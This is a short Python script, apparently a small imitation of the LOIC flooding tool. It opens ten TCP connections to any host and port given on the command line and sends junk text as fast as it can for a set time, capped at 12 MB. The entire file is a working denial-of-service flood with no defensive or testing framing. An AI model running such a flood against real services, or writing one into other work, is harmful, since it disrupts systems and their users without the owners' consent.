#!/usr/bin/env python3
"""Opens connections to a service and sends words it does not understand as fast as they go (what LOIC does): data_flood.py HOST PORT SECONDS. At most 12 MB."""
import socket
import sys
import time

host, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
ends, left = time.time() + seconds, 12_000_000
open_ones = []
while time.time() < ends and left > 0:
    while len(open_ones) < 10:
        s = socket.create_connection((host, port), 2)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        open_ones.append(s)
    for s in list(open_ones):
        try:
            s.send(b"U dun goofed " * 4)
            left -= 52
        except OSError:
            open_ones.remove(s)
    time.sleep(0.002)
